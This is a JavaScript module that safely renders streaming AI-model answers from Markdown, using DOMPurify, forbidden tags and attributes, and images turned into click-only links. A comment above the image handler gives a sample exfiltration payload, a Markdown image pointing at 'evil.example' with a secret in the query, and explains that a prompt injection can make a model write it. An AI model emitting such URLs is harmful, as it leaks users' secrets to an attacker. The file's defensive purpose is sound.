// Markdown to safe DOM. Model text only reaches the page as marked's HTML sanitized by DOMPurify
// (returned as a DocumentFragment, so no innerHTML of model output anywhere).
//
// createMarkdownView(root) renders a growing answer: finished top-level blocks are appended once
// and kept; only the unfinished last block is rebuilt on each update, and an open code fence not
// even that: the new text is appended to its <code> as text (a text node, never parsed as HTML).
// Finished blocks, and only those, get their code highlighted (highlight.js), in a later task.

import { marked } from "../../vendor/marked/marked.esm.js";
import DOMPurify from "../../vendor/dompurify/purify.es.mjs";
import { closeOpenMarkers, createOpenFence, splitTail } from "./blocks.js";
import { highlightLater } from "./highlight.js";

const PURIFY_CONFIG = {
  USE_PROFILES: { html: true },
  // Nothing in model output may make the browser fetch on its own (a prompt injection could put
  // secrets in the URL): media elements go, and so do attributes that load images.
  FORBID_TAGS: [
    "style", "form", "input", "button", "textarea", "select", "option", "iframe", "dialog",
    "video", "audio", "source", "track", "picture",
  ],
  FORBID_ATTR: ["style", "autofocus", "srcset", "background", "poster", "ping"],
  SANITIZE_NAMED_PROPS: true,
  RETURN_DOM_FRAGMENT: true,
};

let hooksInstalled = false;

function installHooks() {
  if (hooksInstalled) return;
  hooksInstalled = true;
  DOMPurify.addHook("afterSanitizeAttributes", (node) => {
    if (node.tagName === "A" && node.hasAttribute("href")) {
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer");
    }
  });
}

/** Markdown source -> sanitized DocumentFragment, with code blocks given a header and copy button. */
export function renderMarkdown(source) {
  installHooks();
  const html = marked.parse(source, { async: false, gfm: true, breaks: false });
  const fragment = DOMPurify.sanitize(html, PURIFY_CONFIG);
  replaceImages(fragment);
  decorateCodeBlocks(fragment);
  return fragment;
}

/**
 * No image from model output loads by itself: an image would be fetched with no click, and a
 * prompt injection can make the model write `![x](https://evil.example/?q=<secret>)`. Each <img>
 * becomes a link ("🖼 alt", or the URL when there is no alt) that opens the image only when
 * clicked; one that is not absolute http(s), or sits inside a link already, becomes plain text.
 * The fragment still belongs to DOMPurify's inert document here, so the <img> never fetched.
 */
function replaceImages(fragment) {
  for (const img of fragment.querySelectorAll("img")) {
    const src = (img.getAttribute("src") || "").trim();
    const alt = (img.getAttribute("alt") || "").trim();
    const label = `🖼 ${alt || src || "image"}`;
    if (!/^https?:\/\//i.test(src) || img.closest("a")) {
      img.replaceWith(document.createTextNode(alt ? label : ""));
      continue;
    }
    const link = document.createElement("a");
    link.className = "md-image-link";
    link.href = src;
    link.target = "_blank";
    link.rel = "noopener noreferrer";
    link.title = `Open image: ${src}`;
    link.textContent = label;
    img.replaceWith(link);
  }
}

/** Wrap each <pre><code> in a box with its language and a Copy button. */
function decorateCodeBlocks(fragment) {
  for (const pre of fragment.querySelectorAll("pre")) {
    const code = pre.querySelector("code");
    const lang = code ? languageOf(code) : "";
    const box = document.createElement("div");
    box.className = "code-block";
    const head = document.createElement("div");
    head.className = "code-head";
    const label = document.createElement("span");
    label.textContent = lang || "code";
    const button = document.createElement("button");
    button.type = "button";
    button.className = "btn btn-ghost code-copy";
    button.dataset.testid = "code-copy";
    button.textContent = "Copy";
    button.setAttribute("aria-label", "Copy code");
    head.append(label, button);
    pre.replaceWith(box);
    box.append(head, pre);
  }
}

/**
 * The code of a block as written between its fences: the <code> text without the one newline
 * marked adds at its end (an open fence shows it too), so a copy is the same while the fence is
 * open, once it closed, and after highlighting (which only wraps the text in spans).
 */
export function codeBlockText(box) {
  const text = box.querySelector("pre > code, pre")?.textContent ?? "";
  return text.endsWith("\n") ? text.slice(0, -1) : text;
}

function languageOf(code) {
  const cls = [...code.classList].find((c) => c.startsWith("language-"));
  return cls ? cls.slice("language-".length) : "";
}

// The live block re-renders at most once per LIVE_RENDER_RATIO times its last render's duration:
// however long an open paragraph, list or table grows, rendering it takes at most a quarter of
// the main thread (a short block still renders every frame: it takes well under a millisecond).
const LIVE_RENDER_RATIO = 3;

/**
 * A view of a growing answer. append(text) adds source text; render({final}) shows it: finished
 * blocks are rendered once and kept, the open last block is rebuilt, except an open code fence,
 * whose <code> text is extended with just the new text. update(source, {final}) does both for a
 * whole source (starting over if it is not an extension of the last one). render() returns
 * {deferred: true} when it put the open block off for the budget above: render again later.
 */
export function createMarkdownView(root, { now = () => performance.now() } = {}) {
  const lex = (text) => marked.lexer(text, { gfm: true });
  let source = ""; // everything appended, normalized (for update()'s is-it-an-extension check)
  let tail = ""; // the source after the finished blocks
  let fresh = ""; // appended since the last render
  let pendingCR = false; // the last piece ended in "\r": a "\n" starting the next belongs to it
  let liveEl = null;
  let fence = null; // the open code fence shown in liveEl, extended in place: {state, text, tailNode}
  let liveReadyAt = 0; // the earliest time the open block may be rebuilt again
  const stats = { blockRenders: 0, fenceAppends: 0, deferred: 0 };

  function append(text) {
    if (!text) return;
    let piece = pendingCR && text[0] === "\n" ? text.slice(1) : text;
    pendingCR = text[text.length - 1] === "\r";
    piece = piece.replace(/\r\n?/g, "\n");
    source += piece;
    tail += piece;
    fresh += piece;
  }

  function render({ final = false } = {}) {
    if (!final && fence) {
      if (!fresh) return { blocks: 0, live: true };
      const step = fence.state.push(fresh);
      if (step) {
        fresh = "";
        extendFence(fence, step);
        stats.fenceAppends += 1;
        return { blocks: 0, live: true };
      }
      fence = null; // the fence closed: render the block afresh below
    }
    if (!final && liveEl && !fresh) return { blocks: 0, live: true };
    if (!final && liveEl && now() < liveReadyAt) {
      stats.deferred += 1;
      return { blocks: 0, live: true, deferred: true };
    }
    const started = now();
    const { blocks, consumed, live } = splitTail(lex, tail, final);
    tail = tail.slice(consumed);
    fresh = "";
    for (const raw of blocks) root.insertBefore(blockElement(raw, false), liveEl);
    if (live) {
      const next = blockElement(closeOpenMarkers(live), true);
      if (liveEl) liveEl.replaceWith(next);
      else root.append(next);
      liveEl = next;
    } else if (liveEl) {
      liveEl.remove();
      liveEl = null;
    }
    fence = live ? followFence(live, liveEl) : null;
    const spent = now() - started;
    liveReadyAt = started + spent * (1 + LIVE_RENDER_RATIO);
    return { blocks: blocks.length, live: Boolean(live) };
  }

  function update(text, { final = false } = {}) {
    const normalized = text.replace(/\r\n?/g, "\n");
    if (normalized.startsWith(source)) {
      append(normalized.slice(source.length));
    } else {
      clear();
      append(normalized);
    }
    return render({ final });
  }

  function blockElement(raw, isLive) {
    stats.blockRenders += 1;
    const el = document.createElement("div");
    el.className = isLive ? "md-block md-live" : "md-block";
    el.append(renderMarkdown(raw));
    if (!isLive) highlightLater(el); // a finished block never changes again: its code may be highlighted
    return el;
  }

  function clear() {
    source = "";
    tail = "";
    fresh = "";
    pendingCR = false;
    fence = null;
    liveReadyAt = 0;
    root.replaceChildren();
    liveEl = null;
  }

  return {
    append,
    render,
    update,
    clear,
    get blockRenders() {
      return stats.blockRenders;
    },
    stats,
  };
}

// An open fence's code is kept in blocks of whole lines of about this many characters: the browser
// lays out only the block that grows (one growing text node of a long <pre> is laid out whole on
// every change). Each block ends at a newline, so the lines on screen are the same.
const CODE_CHUNK_CHARS = 2048;

/**
 * The open fence just rendered in `el`, set up to grow in place: its <code> text moves into a
 * block of lines (`span.md-code-lines`, display: block) followed by a short tail text node (the
 * trailing newlines, which change as the fence grows). Null if `live` is not an open fence, or
 * if the rendered text is not what the fence follower computes (then the block is simply
 * rebuilt each time, as before).
 */
function followFence(live, el) {
  if (el.children.length !== 1) return null; // a fence renders as exactly one code block
  const state = createOpenFence(live);
  const code = el.querySelector(".code-block > pre > code");
  if (!state || !code || code.children.length) return null;
  const text = domText(state.text);
  const tailNode = document.createTextNode(domText(state.tail));
  if (text + tailNode.data !== code.textContent) return null;
  const fence = { state, code, tailNode, lines: null, length: 0 };
  code.replaceChildren();
  startLines(fence, text);
  return fence;
}

function startLines(fence, text) {
  const block = document.createElement("span");
  block.className = "md-code-lines";
  fence.lines = document.createTextNode(text);
  fence.length = text.length;
  block.append(fence.lines, fence.tailNode); // moves the tail along from the last block
  fence.code.append(block);
}

/** Append a step of the fence follower: new code text, then the new tail. */
function extendFence(fence, step) {
  let text = domText(step.append);
  if (fence.length >= CODE_CHUNK_CHARS) {
    const cut = text.indexOf("\n");
    if (cut !== -1) {
      fence.lines.appendData(text.slice(0, cut + 1));
      text = text.slice(cut + 1);
      startLines(fence, "");
    }
  }
  if (text) fence.lines.appendData(text);
  fence.length += text.length;
  fence.tailNode.data = domText(step.tail);
}

/** Text as the HTML parser leaves it inside <code>: it drops NUL characters. */
function domText(text) {
  return text.includes("\0") ? text.replaceAll("\0", "") : text;
}
